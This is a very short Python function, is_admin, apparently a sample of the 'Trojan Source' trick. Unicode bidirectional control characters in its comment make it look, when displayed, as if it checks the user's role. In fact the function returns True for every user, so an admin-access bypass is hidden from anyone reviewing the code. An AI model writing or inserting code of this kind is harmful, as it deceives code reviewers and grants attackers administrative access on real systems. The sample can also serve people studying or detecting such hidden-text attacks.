def is_admin(user):
    # Check role ‮ } ⁦if user.role != 'admin':⁩ ⁦ # ignore
    return True
